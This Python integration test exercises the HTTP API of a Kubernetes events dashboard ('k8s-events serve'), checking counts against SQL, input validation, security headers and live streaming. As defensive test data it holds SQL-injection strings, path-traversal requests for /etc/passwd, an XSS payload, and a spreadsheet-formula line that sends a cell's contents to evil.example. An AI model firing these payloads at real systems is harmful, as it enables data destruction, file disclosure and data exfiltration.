#!/usr/bin/env python3
"""The API of `k8s-events serve`, over real HTTP, against the database tests/test_serve.sh
filled: every number equals SQL over the raw rows; hostile parameters get 400 (never 5xx)
and change nothing; the security headers; the live stream; the token, the login cookie, TLS;
what the server costs. Prints one "ok - ..." or "not ok - ..." line a check (tests/run counts
them); exits 1 if any failed.

Environment: SERVE_URL, SERVE_TOKEN_URL, SERVE_TLS_URL, SERVE_CA, SERVE_PID, SERVE_TOKEN,
SERVE_DB, and PGHOST/PGPORT/PGUSER of the owner (for the SQL the numbers are checked against).
"""
import collections
import gzip
import http.client
import json
import os
import socket
import ssl
import subprocess
import sys
import time
import urllib.parse
import uuid

URL = os.environ["SERVE_URL"]
DB = os.environ["SERVE_DB"]
failures = 0


def ok(desc, cond, detail=""):
    global failures
    if cond:
        print(f"ok - {desc}")
    else:
        failures += 1
        print(f"not ok - {desc}")
        for line in str(detail).splitlines()[:20]:
            print(f"#   {line}")


def sql(query):
    """Rows of a query as the owner, each a list of column texts."""
    # On standard input: a burst of events is longer than an argument may be.
    out = subprocess.run(["psql", "-X", "-q", "-At", "-F", "\x1f", "-v", "ON_ERROR_STOP=1", "-d", DB],
                         input=query + ";\n", capture_output=True, text=True, check=True).stdout
    return [line.split("\x1f") for line in out.splitlines()]


def one(query):
    return sql(query)[0][0]


def host_port(url):
    u = urllib.parse.urlsplit(url)
    return u.hostname, u.port


def request(path, url=URL, method="GET", headers=None, body=None, context=None):
    """(status, headers as a dict of lower-case names, body bytes); the path is sent as it is."""
    host, port = host_port(url)
    if url.startswith("https"):
        conn = http.client.HTTPSConnection(host, port, timeout=30, context=context)
    else:
        conn = http.client.HTTPConnection(host, port, timeout=30)
    conn.request(method, path, body=body, headers=headers or {})
    resp = conn.getresponse()
    data = resp.read()
    hdrs = {k.lower(): v for k, v in resp.getheaders()}
    conn.close()
    return resp.status, hdrs, data


def api(path, **params):
    q = urllib.parse.urlencode({k: v for k, v in params.items() if v is not None})
    status, hdrs, data = request(f"/api/{path}" + (f"?{q}" if q else ""))
    if hdrs.get("content-encoding") == "gzip":
        data = gzip.decompress(data)
    return status, (json.loads(data) if hdrs.get("content-type", "").startswith("application/json") else data)


def ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


def switches(pid):
    total = 0
    for tid in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{tid}/status") as f:
                for line in f:
                    if line.startswith(("voluntary_ctxt_switches", "nonvoluntary_ctxt_switches")):
                        total += int(line.split()[1])
        except FileNotFoundError:
            pass
    return total


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS"):
                return int(line.split()[1])
    return 0


HZ = os.sysconf("SC_CLK_TCK")
PID = int(os.environ["SERVE_PID"])
ticks_start = ticks(PID)
requests_made = 0


def ingest(cluster, ns, kind, name, reason, type_, message, when=None, count=1, uid=None):
    when = when or time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    ev = {"kind": "Event", "metadata": {"uid": uid or str(uuid.uuid4()), "resourceVersion": "1", "namespace": ns},
          "involvedObject": {"kind": kind, "namespace": ns, "name": name}, "reason": reason, "type": type_,
          "message": message, "lastTimestamp": when, "firstTimestamp": when, "count": count,
          "source": {"component": "kubelet", "host": "node-t"}}
    lit = json.dumps(ev).replace("'", "''")
    sql(f"SELECT k8s_events.ingest('{lit}', '{cluster}')")


# ---------------------------------------------------------------- numbers equal SQL

status, clusters = api("clusters")
requests_made += 1
ok("clusters lists every cluster stored", status == 200 and sorted(c["cluster"] for c in clusters) ==
   sorted(r[0] for r in sql("SELECT DISTINCT cluster FROM k8s_events.events")), clusters)

busy_ns, busy_kind, busy_name = sql("SELECT namespace, kind, name FROM k8s_events.resource_summary"
                                    " WHERE cluster = 'prod' AND namespace IS NOT NULL"
                                    " ORDER BY observations DESC, name LIMIT 1")[0]
a_ns = one("SELECT min(namespace) FROM k8s_events.resource_summary WHERE cluster = 'prod'")


def raw_sum(frm, to, cluster="prod", namespace=None, kind=None, name=None, type_=None):
    cond = [f"cluster = '{cluster}'", f"event_time >= to_timestamp({frm})", f"event_time < to_timestamp({to})"]
    for col, v in (("namespace", namespace), ("kind", kind), ("name", name), ("type", type_)):
        if v is not None:
            cond.append(f"{col} = '{v}'")
    return int(one(f"SELECT coalesce(sum(occurrences), 0) FROM k8s_events.events WHERE {' AND '.join(cond)}"))


cases = [
    ("the cluster, 2 days, auto buckets", dict(cluster="prod", **{"from": "now-2d"})),
    ("one namespace", dict(cluster="prod", namespace=a_ns, **{"from": "now-2d"})),
    ("one kind", dict(cluster="prod", kind="Pod", **{"from": "now-2d"})),
    ("Warnings only, daily", dict(cluster="prod", type="Warning", bucket="1d", **{"from": "now-3d"})),
    ("one object", dict(cluster="prod", namespace=busy_ns, kind=busy_kind, name=busy_name, **{"from": "now-2d"})),
    ("15-minute buckets over 12 hours (raw rows)", dict(cluster="prod", bucket="15m", **{"from": "now-12h"})),
]
for title, params in cases:
    status, h = api("histogram", **params)
    requests_made += 1
    if status != 200:
        ok(f"histogram ({title}) answers", False, h)
        continue
    got = sum(sum(s["values"]) for s in h["series"])
    want = raw_sum(h["from"], h["to"], params["cluster"], params.get("namespace"), params.get("kind"),
                   params.get("name"), params.get("type"))
    nb = (h["to"] - h["from"]) // h["bucket_seconds"]
    ok(f"histogram ({title}): total {got} equals sum(occurrences) of the rows ({want}), "
       f"{nb} buckets, every one present",
       got == want == h["total"] and len(h["times"]) == nb and all(len(s["values"]) == nb for s in h["series"])
       and h["times"] == [h["from"] + i * h["bucket_seconds"] for i in range(nb)], (got, want, h["total"], nb))

# Per bucket, type and reason, not only in total: the cluster-wide chart.
status, h = api("histogram", cluster="prod", **{"from": "now-2d"})
requests_made += 1
rows = sql(f"SELECT extract(epoch FROM k8s_events.time_bucket('{h['bucket_seconds']} seconds', event_time))::bigint,"
           f" coalesce(type, ''), coalesce(reason, ''), sum(occurrences) FROM k8s_events.events"
           f" WHERE cluster = 'prod' AND event_time >= to_timestamp({h['from']}) AND event_time < to_timestamp({h['to']})"
           f" GROUP BY 1, 2, 3 HAVING sum(occurrences) > 0")
want = {(int(t), ty, re): int(n) for t, ty, re, n in rows}
got = {}
for s in h["series"]:
    for t, v in zip(h["times"], s["values"]):
        if v:
            got[(t, s["type"] or "", s["reason"] or "")] = v
ok(f"histogram: each of {len(want)} (bucket, type, reason) counts equals the rows'", got == want,
   set(got.items()) ^ set(want.items()))
ok("histogram: series come biggest first, a 2-day range in hourly buckets from counts_by_hour",
   [s["total"] for s in h["series"]] == sorted((s["total"] for s in h["series"]), reverse=True)
   and h["bucket_seconds"] == 3600 and h["source"] == "counts_by_hour", h.get("source"))

# The overview list: the summary's objects seen in the range, in order, with the range's counts.
status, res = api("resources", cluster="prod", limit=500, spark=8, **{"from": "now-1d"})
requests_made += 1
frm = one("SELECT extract(epoch FROM now() - interval '1 day')::float8")
want = sql("SELECT coalesce(namespace, ''), kind, name FROM k8s_events.resource_summary WHERE cluster = 'prod'"
           f" AND last_event_time >= to_timestamp({frm}) - interval '5 seconds'"
           " ORDER BY last_event_time DESC, namespace, kind, name LIMIT 500")
got = [[i["namespace"] or "", i["kind"], i["name"]] for i in res["items"]]
# The list was read a moment before the SQL: objects at its edge may differ; compare the rest.
ok(f"resources: the {len(got)} objects seen in the last day, newest first, as the summary orders them",
   status == 200 and len(got) > 10 and got == want[:len(got)] and abs(len(got) - len(want)) <= 3,
   (len(got), len(want)))
bad = []
for i in res["items"][:40]:
    n, w = sql("SELECT coalesce(sum(occurrences) FILTER (WHERE type = 'Normal'), 0),"
               " coalesce(sum(occurrences) FILTER (WHERE type = 'Warning'), 0) FROM k8s_events.events"
               f" WHERE cluster = 'prod' AND namespace = '{i['namespace']}' AND kind = '{i['kind']}'"
               f" AND name = '{i['name']}' AND event_time >= to_timestamp({frm}) AND event_time < now()")[0]
    if (int(n), int(w)) != (i["range_normal"], i["range_warning"]) or sum(i["spark"]) != int(n) + int(w) \
            or len(i["spark"]) != 8:
        bad.append((i["name"], n, w, i["range_normal"], i["range_warning"], i["spark"]))
ok("resources: each object's Normal and Warning occurrences in the range, and its sparkline, equal its rows'",
   not bad, bad)
# One fixed range for both: "now-1d" read a moment apart let an event at its start count in
# one and not the other.
day_from, day_to = sql("SELECT to_char(now() - interval '1 day', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"'),"
                       " to_char(now() + interval '1 hour', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"')")[0]
status, res_w = api("resources", cluster="prod", sort="warnings", limit=20, **{"from": day_from, "to": day_to})
requests_made += 1
ws = [i["range_warning"] for i in res_w["items"]]
want = [int(r[0]) for r in sql("SELECT sum(occurrences) FROM k8s_events.events WHERE cluster = 'prod'"
                                f" AND type = 'Warning' AND event_time >= '{day_from}' AND event_time < '{day_to}'"
                                " AND namespace IS NOT NULL GROUP BY namespace, kind, name ORDER BY 1 DESC LIMIT 20")]
ok("resources sort=warnings: most warned in the range first, as the rows count them",
   status == 200 and ws == want and ws[0] > 0, (ws, want))
ns_w = sql("SELECT namespace FROM k8s_events.events WHERE cluster = 'prod' AND type = 'Warning'"
           " AND namespace IS NOT NULL GROUP BY 1 ORDER BY sum(occurrences) DESC LIMIT 1")[0][0]
status, res_n = api("resources", cluster="prod", namespace=ns_w, kind="Pod", sort="warnings", limit=5,
                    **{"from": "now-2d"})
requests_made += 1
want = sql("SELECT name, sum(occurrences) FROM k8s_events.events WHERE cluster = 'prod' AND type = 'Warning'"
           f" AND namespace = '{ns_w}' AND kind = 'Pod' AND event_time >= now() - interval '2 days'"
           " GROUP BY name ORDER BY 2 DESC, name LIMIT 5")
ok(f"the pods of {ns_w} with the most warnings of the last 2 days, as the rows count them",
   status == 200 and [i["range_warning"] for i in res_n["items"]] == [int(w[1]) for w in want], (res_n, want))
s1, p1 = api("resources", cluster="prod", limit=5, **{"from": "now-2d"})
s2, p2 = api("resources", cluster="prod", limit=5, offset=5, **{"from": "now-2d"})
s3, p3 = api("resources", cluster="prod", limit=10, **{"from": "now-2d"})
requests_made += 3
ok("resources pages: limit and offset page through the same order, has_more says if more",
   [i["name"] for i in p1["items"] + p2["items"]] == [i["name"] for i in p3["items"]] and p1["has_more"], "")
s, pw = api("resources", cluster="prod", type="Warning", **{"from": "now-2d"})
requests_made += 1
ok("resources type=Warning: only objects with warnings", s == 200 and pw["items"] and
   all(i["warning"] > 0 for i in pw["items"]), pw)

# Two objects of the same name in two namespaces stay apart.
for ns, n in (("alpha", 3), ("beta", 5)):
    for k in range(n):
        ingest("prod", ns, "Pod", "twin", "BackOff", "Warning", f"twin in {ns} #{k}")
s, ra = api("resource", cluster="prod", namespace="alpha", kind="Pod", name="twin")
s2, rb = api("resource", cluster="prod", namespace="beta", kind="Pod", name="twin")
s3, ea = api("events", cluster="prod", namespace="alpha", kind="Pod", name="twin")
s4, tw = api("resources", cluster="prod", q="TWIN", **{"from": "now-1h"})
requests_made += 4
ok("resource: twin pods of namespaces alpha and beta keep their own counts (3 and 5 warnings)",
   (ra["namespace"], ra["warning"], rb["namespace"], rb["warning"]) == ("alpha", 3, "beta", 5), (ra, rb))
ok("events of alpha/twin are alpha's only, newest first",
   len(ea["items"]) == 3 and all("alpha" in e["message"] for e in ea["items"])
   and [e["event_time"] for e in ea["items"]] == sorted((e["event_time"] for e in ea["items"]), reverse=True), ea)
ok("resources q=TWIN finds both, by name, whatever the case",
   sorted(i["namespace"] for i in tw["items"]) == ["alpha", "beta"], tw)

# One object's events: every row, in the order object_events() gives, and the CSV of them.
want = sql("SELECT uid FROM k8s_events.events WHERE cluster = 'prod'"
           f" AND namespace = '{busy_ns}' AND kind = '{busy_kind}' AND name = '{busy_name}'"
           " ORDER BY event_time DESC, uid DESC, resource_version COLLATE \"C\" DESC")
s, ev = api("events", cluster="prod", namespace=busy_ns, kind=busy_kind, name=busy_name, limit=500)
requests_made += 1
ok(f"events: the {len(want)} rows of {busy_kind} {busy_ns}/{busy_name}, newest first",
   s == 200 and [e["uid"] for e in ev["items"]] == [w[0] for w in want[:500]], (len(ev["items"]), len(want)))
ingest("prod", "alpha", "Pod", "csv", "Evil", "Warning", '=HYPERLINK("http://evil.example/?x="&A1,"click")')
s, csv = api("events.csv", cluster="prod", namespace="alpha", kind="Pod", name="csv")
requests_made += 1
lines = csv.decode().splitlines()
ok("events.csv: a header and the row; a message a spreadsheet would run as a formula starts with '",
   s == 200 and lines[0].startswith('"event_time","type","reason","message"') and len(lines) == 2
   and '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in lines[1], lines)

# Filters list what the range has.
s, f = api("filters", cluster="prod", **{"from": "now-2d"})
requests_made += 1
want_ns = [r[0] for r in sql("SELECT DISTINCT namespace FROM k8s_events.event_counts WHERE cluster = 'prod'"
                             " AND namespace IS NOT NULL AND hour >= date_trunc('hour', now() - interval '2 days')"
                             " ORDER BY 1")]
ok("filters: the namespaces, kinds and reasons of the range", s == 200 and f["namespaces"] == want_ns
   and "Pod" in f["kinds"] and any(r["reason"] == "BackOff" for r in f["reasons"]), f)

# A pod's owner and node, and the node's trouble over the pod's chart.
pod = sql("SELECT e.namespace, e.name, substring(e.message FROM ' to (\\S+)$') FROM k8s_events.events AS e"
          " JOIN k8s_events.pod_owners AS o ON o.cluster = e.cluster AND o.namespace = e.namespace AND o.pod = e.name"
          " WHERE e.cluster = 'prod' AND e.kind = 'Pod' AND e.reason = 'Scheduled' ORDER BY e.event_time DESC LIMIT 1")
if pod:
    pns, pname, pnode = pod[0]
    owner = sql(f"SELECT owner_kind, owner FROM k8s_events.pod_owners WHERE cluster = 'prod' AND namespace = '{pns}'"
                f" AND pod = '{pname}' ORDER BY created_time DESC LIMIT 1")[0]
    s, r = api("resource", cluster="prod", namespace=pns, kind="Pod", name=pname)
    s2, o = api("overlays", cluster="prod", namespace=pns, kind="Pod", name=pname, **{"from": "now-2d"})
    requests_made += 2
    rel = {(x["relation"], x["kind"], x["name"]) for x in r["related"]}
    ok(f"resource: pod {pns}/{pname} relates to its owner {owner[0]} {owner[1]} and node {pnode}",
       ("owner", owner[0], owner[1]) in rel and ("node", "Node", pnode) in rel, rel)
    ok("overlays: the pod's node, and only that node's trouble",
       s2 == 200 and o["node"] == pnode and all(t["node"] == pnode for t in o["node_trouble"]), o)
else:
    ok("the generated cluster has a scheduled pod with an owner", False)

dep = sql("SELECT namespace, name FROM k8s_events.resource_summary WHERE cluster = 'prod' AND kind = 'Deployment'"
          " AND reasons ? 'ScalingReplicaSet' ORDER BY observations DESC LIMIT 1")
if dep:
    dns, dname = dep[0]
    want = {r[0] for r in sql("SELECT DISTINCT substring(message FROM 'replica set ([a-z0-9.-]+)')"
                              f" FROM k8s_events.events WHERE cluster = 'prod' AND namespace = '{dns}'"
                              f" AND kind = 'Deployment' AND name = '{dname}' AND reason = 'ScalingReplicaSet'")}
    s, r = api("resource", cluster="prod", namespace=dns, kind="Deployment", name=dname)
    s2, o = api("overlays", cluster="prod", namespace=dns, kind="Deployment", name=dname, **{"from": "now-2d"})
    requests_made += 2
    got = {x["name"] for x in r["related"] if x["relation"] == "replica_set"}
    ok(f"resource: Deployment {dns}/{dname} lists the ReplicaSets its messages name", got == want, (got, want))
    ok("overlays: the Deployment's scaling events and its ReplicaSets' images",
       s2 == 200 and o["scaling"] and all(x["replica_set"] in want for x in o["images"]), o)

# ---------------------------------------------------------------- hostile input

before = one("SELECT count(*) FROM k8s_events.events")
hostile = [
    ("/api/resources?cluster=prod&q=a%00b", 400),
    ("/api/resources?cluster=prod%00&from=now-1d", 400),
    ("/api/resources?cluster=prod&q=%ff%fe", 400),
    ("/api/resources?cluster=prod&namespace=a%0Ab", 400),
    ("/api/resources?cluster=prod&kind=Pod%27%3B%20DROP%20TABLE%20k8s_events.events%3B--", 400),
    ("/api/resources?cluster=prod&type=Warning%27%20OR%201%3D1", 400),
    ("/api/resources?cluster=prod&sort=last_event_time%3B%20DELETE", 400),
    ("/api/resources?cluster=prod&limit=-1", 400),
    ("/api/resources?cluster=prod&limit=99999999999999999999", 400),
    ("/api/resources?cluster=prod&offset=abc", 400),
    ("/api/resources?cluster=prod&evil=1", 400),
    ("/api/resources?cluster=prod&cluster=edge", 400),
    ("/api/resources?cluster=prod&from=", 400),
    ("/api/resources", 400),
    ("/api/histogram?cluster=prod&from=now-100000d", 400),
    ("/api/histogram?cluster=prod&from=1900-01-01T00:00:00Z", 400),
    ("/api/histogram?cluster=prod&from=2026-13-45T99:00:00Z", 400),
    ("/api/histogram?cluster=prod&from=now-30d&bucket=1m", 400),
    ("/api/histogram?cluster=prod&from=now-7d&bucket=5m", 400),
    ("/api/histogram?cluster=prod&bucket=1s", 400),
    ("/api/histogram?cluster=prod&from=now&to=now-1d", 400),
    ("/api/histogram?cluster=prod&bars=100000", 400),
    ("/api/histogram?cluster=prod&to=0001-01-01T00:00:00Z", 400),
    ("/api/histogram?cluster=prod&from=0001-01-01T00:00:00%2B01:00&to=0001-01-02T00:00:00Z", 400),
    ("/api/histogram?cluster=prod&from=now-106752000d", 400),
    ("/api/resources?cluster=prod&from=now-106752000d", 400),
    ("/api/histogram?cluster=prod&to=2999-01-01T00:00:00Z", 400),
    ("/api/histogram?cluster=prod&name=twin&from=now-700d&bucket=1d", 400),
    ("/api/resources?cluster=prod&sort=warnings&from=now-60d", 400),
    ("/api/events?cluster=prod&kind=Pod", 400),
    ("/api/resources?cluster=prod&q=" + "x" * 300, 400),
    ("/api/resources?cluster=prod&" + "&".join(f"q{i}=1" for i in range(10)), 400),
    ("/api/resources?cluster=prod&name=" + "y" * 4100, 400),
    ("/api/stream?cluster=prod", 400),
    ("/api/nothing", 404),
    ("/../../../../etc/passwd", 404),
    ("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 404),
    ("/assets/../../../etc/passwd", 404),
    ("/assets/..%2f..%2f..%2fetc%2fpasswd", 404),
    ("/.env", 404),
    ("/index.html?x=1", 400),
]
bad = []
for path, want in hostile:
    s, hdrs, body = request(path)
    requests_made += 1
    is_json = hdrs.get("content-type", "").startswith("application/json")
    if s != want or not is_json or "error" not in json.loads(body) or b"root:" in body:
        bad.append((path[:80], s, body[:120]))
ok(f"{len(hostile)} hostile requests (SQL, NUL, bad UTF-8, control characters, huge ranges, too many buckets, "
   "unknown or repeated parameters, path traversal) get 400 or 404 with a JSON error, never 5xx", not bad, bad)
free_text = ["' OR 1=1 --", "prod'; DROP TABLE k8s_events.events; --", "%", "_", "\\", "$1", "<script>"]
bad = []
for q in free_text:
    s, r = api("resources", cluster="prod", q=q, limit=500, **{"from": "now-3d"})
    requests_made += 1
    lit = q.lower().replace("'", "''")
    want = sorted(x[0] for x in sql(
        "SELECT name FROM k8s_events.resource_summary WHERE cluster = 'prod'"
        " AND last_event_time >= now() - interval '3 days'"
        f" AND (strpos(lower(name), '{lit}') > 0 OR strpos(lower(last_reason), '{lit}') > 0"
        f" OR strpos(lower(last_message), '{lit}') > 0)"))
    if s != 200 or sorted(i["name"] for i in r["items"]) != want:
        bad.append((q, s, len(r.get("items", [])), len(want)))
ok("SQL fragments and LIKE wildcards as free text are only text: they find what holds them literally",
   not bad, bad)
# The node filter: the objects a node reported events of (a pod's kubelet), and the Node
# itself, as the raw rows say; with each sort, and with a namespace.
node = one("SELECT source_host FROM k8s_events.events WHERE cluster = 'prod' AND source_host IS NOT NULL"
           " GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1")
node_lit = node.replace("'", "''")
node_rows = (f"SELECT s.kind, coalesce(s.namespace, ''), s.name FROM k8s_events.resource_summary AS s"
             f" WHERE s.cluster = 'prod' AND s.last_event_time >= now() - interval '3 days'"
             f" AND (EXISTS (SELECT FROM k8s_events.events AS e WHERE e.cluster = s.cluster"
             f"   AND e.namespace IS NOT DISTINCT FROM s.namespace AND e.kind IS NOT DISTINCT FROM s.kind"
             f"   AND e.name IS NOT DISTINCT FROM s.name AND e.source_host = '{node_lit}')"
             f"  OR (s.kind = 'Node' AND s.name = '{node_lit}'))")
want = sorted(tuple(x) for x in sql(node_rows))
s, r = api("resources", cluster="prod", node=node, limit=500, **{"from": "now-3d"})
requests_made += 1
got = sorted((i["kind"], i["namespace"] or "", i["name"]) for i in r.get("items", []))
kinds = sorted({k for k, _, _ in want})
ok(f"node filter: the {len(want)} objects node {node} reported events of ({', '.join(kinds)}), and the Node, "
   "as the rows say", s == 200 and got == want and len(want) > 1
   and any(k == "Node" and n == node for k, _, n in got), (s, len(got), len(want), got[:5], want[:5]))
ns_n = collections.Counter(n for k, n, _ in want if k == "Pod" and n).most_common(1)[0][0]
s, r = api("resources", cluster="prod", node=node, namespace=ns_n, sort="warnings", limit=500,
           **{"from": "now-3d"})
requests_made += 1
got_w = {(i["kind"], i["namespace"] or "", i["name"]) for i in r.get("items", [])}
want_w = {w for w in want if w[1] == ns_n} & {tuple(x) for x in sql(
    "SELECT kind, coalesce(namespace, ''), name FROM k8s_events.events WHERE cluster = 'prod'"
    f" AND namespace = '{ns_n}' AND type = 'Warning' AND event_time >= now() - interval '3 days'")}
ok(f"node filter by warnings in namespace {ns_n}: the node's objects that had warnings ({len(want_w)})",
   s == 200 and got_w == want_w, (s, sorted(got_w)[:5], sorted(want_w)[:5]))
s, r = api("resources", cluster="prod", node="no-such-node'; --", **{"from": "now-3d"})
requests_made += 1
ok("a node nobody has finds nothing", s == 200 and r["items"] == [], r)
s, r = api("resources", cluster="prod", node="n" * 254)
requests_made += 1
ok("a node name over 253 bytes gets 400", s == 400 and r.get("parameter") == "node", r)
s, r = api("resources", cluster="x'; DROP TABLE k8s_events.events; --")
requests_made += 1
ok("a cluster name made of SQL is only a name no cluster has", s == 200 and r["items"] == [], r)
after = one("SELECT count(*) FROM k8s_events.events")
ok("the events table is unchanged by the hostile requests", before == after, (before, after))
for method in ("POST", "PUT", "DELETE"):
    s, hdrs, body = request("/api/resources?cluster=prod", method=method)
    requests_made += 1
    ok(f"{method} is refused (405): the dashboard only reads", s == 405 and hdrs.get("allow") == "GET, HEAD", s)
s, hdrs, body = request("/" + "a" * 2000)
requests_made += 1
ok("an overlong path gets 414", s == 414, s)

# One connection, several requests (a page's): kept alive, each answered.
host, port = host_port(URL)
conn = http.client.HTTPConnection(host, port, timeout=30)
statuses = []
for path in ("/api/clusters", "/", "/api/nothing", "/api/clusters"):
    conn.request("GET", path)
    r = conn.getresponse()
    r.read()
    statuses.append((r.status, r.getheader("Connection")))
conn.close()
requests_made += 4
ok("a connection is kept alive for the page's next requests, each answered",
   [s for s, _ in statuses] == [200, 200, 404, 200] and all(c != "close" for _, c in statuses), statuses)

# ---------------------------------------------------------------- headers, files

bad = []
for path in ("/", "/api/clusters", "/api/nothing", "/api/resources", "/assets/app-1a2b3c.js"):
    s, hdrs, body = request(path)
    requests_made += 1
    csp = hdrs.get("content-security-policy", "")
    if "script-src 'self'" not in csp or "unsafe-inline" in csp or "frame-ancestors 'none'" not in csp \
            or hdrs.get("x-content-type-options") != "nosniff" or hdrs.get("referrer-policy") != "no-referrer":
        bad.append((path, hdrs))
ok("every answer (page, API, errors) has the CSP without inline scripts, nosniff, no framing, no referrer",
   not bad, bad)
s, hdrs, body = request("/assets/app-1a2b3c.js", headers={"Accept-Encoding": "gzip"})
requests_made += 1
ok("a hashed asset is served gzip'd and cached for good",
   s == 200 and hdrs.get("content-encoding") == "gzip" and gzip.decompress(body).startswith(b"const x")
   and "immutable" in hdrs.get("cache-control", "") and hdrs.get("content-type", "").startswith("text/javascript"),
   hdrs)
s, hdrs, body = request("/resource?cluster=prod&kind=Pod&name=x")
requests_made += 1
ok("the page's routes are the page (every view is a URL)", s == 200 and b"<!doctype html>" in body and
   hdrs.get("cache-control") == "no-cache", (s, hdrs))
s, hdrs, body = request("/api/histogram?cluster=prod&from=now-2d", headers={"Accept-Encoding": "gzip"})
requests_made += 1
ok("API answers are gzip'd when the client accepts it, never cached",
   s == 200 and hdrs.get("content-encoding") == "gzip" and json.loads(gzip.decompress(body))["total"] > 0
   and hdrs.get("cache-control") == "no-store", hdrs)

# ---------------------------------------------------------------- the live stream


class Stream:
    """An SSE client on a raw socket: frames as dicts of their fields."""

    def __init__(self, last_id=None, url=URL):
        host, port = host_port(url)
        self.sock = socket.create_connection((host, port), timeout=10)
        # HTTP/1.0: the stream comes as it is, not in chunks.
        hdr = f"GET /api/stream HTTP/1.0\r\nHost: {host}\r\nAccept: text/event-stream\r\n"
        if last_id is not None:
            hdr += f"Last-Event-ID: {last_id}\r\n"
        self.sock.sendall((hdr + "\r\n").encode())
        self.buf = b""
        head = self._until(b"\r\n\r\n")
        self.status = int(head.split(b" ")[1])
        self.headers = head.decode(errors="replace").lower()

    def _until(self, sep, deadline=None):
        while sep not in self.buf:
            if deadline is not None:
                self.sock.settimeout(max(0.01, deadline - time.time()))
            chunk = self.sock.recv(65536)
            if not chunk:
                raise EOFError
            self.buf += chunk
        out, self.buf = self.buf.split(sep, 1)
        return out

    def frame(self, timeout):
        """The next frame other than a comment, or None after timeout seconds."""
        deadline = time.time() + timeout
        try:
            while True:
                # Frames end with a blank line.
                raw = self._until(b"\n\n", deadline)
                fields = {}
                for line in raw.decode().splitlines():
                    if ":" in line and not line.startswith(":"):
                        k, v = line.split(":", 1)
                        if k in ("id", "event", "data", "retry"):
                            fields[k] = v[1:] if v.startswith(" ") else v
                if "event" in fields or "data" in fields:
                    return fields
        except (socket.timeout, TimeoutError, EOFError):
            return None

    def close(self):
        self.sock.close()


st = Stream()
ok("the stream answers text/event-stream", st.status == 200 and "text/event-stream" in st.headers, st.headers)
hostile_msg = '<img src=x onerror="alert(1)"><script>alert(2)</script> & "quotes" \u2603'
# Timed from the commit: psql's start-up on a busy machine (beside the sanitizer and valgrind
# lanes) is not the stream's. serve has no polling fallback, so a missed NOTIFY never comes.
ingest("prod", "shop", "Pod", "live-1", "Evil", "Warning", hostile_msg)
t0 = time.time()
fr = st.frame(30)
took = time.time() - t0
data = json.loads(fr["data"]) if fr else {}
ok(f"an event stored appears on the stream within 10 s of its commit ({took:.2f} s), its message as the exact text",
   fr is not None and took < 10 and data.get("message") == hostile_msg and data.get("name") == "live-1"
   and data.get("cluster") == "prod", fr)
run, first_n = (fr["id"].split("-") + ["0"])[:2] if fr else ("0", "0")
first_n = int(first_n)
st.close()
ingest("prod", "shop", "Pod", "live-2", "Started", "Normal", "second")
st2 = Stream(last_id=f"{run}-{first_n}")
fr2 = st2.frame(5)
ok("a page reconnecting with Last-Event-ID gets what it missed, and only that",
   fr2 is not None and fr2["id"] == f"{run}-{first_n + 1}" and json.loads(fr2["data"])["name"] == "live-2", fr2)
st2.close()
other_run = ("1" if run[0] == "0" else "0") + run[1:]  # the same id of another run
for bogus in (f"{run}-{first_n + 1000}", f"{other_run}-{first_n}", "12"):
    st3 = Stream(last_id=bogus)
    fr3 = st3.frame(5)
    ok(f"a Last-Event-ID this run never gave ({bogus}: a restart, another server) is told to reset its views",
       fr3 is not None and fr3.get("event") == "reset", fr3)
    st3.close()

# A burst bigger than a page of the listener's look (1,000 rows), in one transaction: all of
# it streams, and what comes after too.
st4 = Stream()
time.sleep(0.3)
burst = []
now_s = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
for k in range(1500):
    burst.append({"kind": "Event", "metadata": {"uid": str(uuid.uuid4()), "resourceVersion": "1", "namespace": "burst"},
                  "involvedObject": {"kind": "Pod", "namespace": "burst", "name": f"b-{k}"}, "reason": "Started",
                  "type": "Normal", "message": f"burst {k}", "lastTimestamp": now_s, "count": 1})
lit = json.dumps(burst).replace("'", "''")
sql(f"SELECT k8s_events.ingest('{lit}', 'prod')")
names = set()
deadline = time.time() + 15
while len(names) < 1500 and time.time() < deadline:
    f = st4.frame(max(0.1, deadline - time.time()))
    if f is None:
        break
    if f.get("event") == "event":
        names.add(json.loads(f["data"])["name"])
ingest("prod", "shop", "Pod", "after-burst", "Started", "Normal", "after the burst")
after = None
while after is None and time.time() < deadline + 5:
    f = st4.frame(5)
    if f is None:
        break
    if f.get("event") == "event" and json.loads(f["data"])["name"] == "after-burst":
        after = f
st4.close()
ok(f"a burst of 1,500 events in one transaction streams whole ({len(names)}), and the next event after it",
   len(names) == 1500 and after is not None, (len(names), after))

# ---------------------------------------------------------------- what it costs

# Under a sanitizer (tests/test_sanitizers.sh) the costs are the sanitizer's: not checked
# there, said so; the normal run checks them.
if os.environ.get("K8S_EVENTS_UNDER_SANITIZER"):
    print("skip - serve's CPU, wake-ups and memory (under AddressSanitizer the costs are the sanitizer's;"
          " checked in the normal run)")
else:
    idle = Stream()
    time.sleep(0.5)
    c0, w0, t0 = ticks(PID), switches(PID), time.time()
    time.sleep(5)
    c1, w1, t1 = ticks(PID), switches(PID), time.time()
    idle.close()
    cpu_idle = (c1 - c0) / HZ
    wakeups = (w1 - w0) / (t1 - t0)
    ok(f"idle with a page open, serve costs {cpu_idle:.2f} s CPU in 5 s (< 0.10) and {wakeups:.1f} wake-ups/s (< 20)",
       cpu_idle < 0.10 and wakeups < 20, (cpu_idle, wakeups))
    cpu_all = (ticks(PID) - ticks_start) / HZ
    per_req = cpu_all / max(requests_made, 1)
    ok(f"{requests_made} API requests cost serve {cpu_all:.2f} s CPU, {per_req * 1000:.1f} ms each (< 20 ms)",
       per_req < 0.02, (cpu_all, requests_made))
    rss = rss_kb(PID)
    ok(f"serve's resident memory after the run is {rss // 1024} MiB (< 64 MiB)", rss < 64 * 1024, rss)

# ---------------------------------------------------------------- token, login, TLS

TOKEN_URL = os.environ["SERVE_TOKEN_URL"]
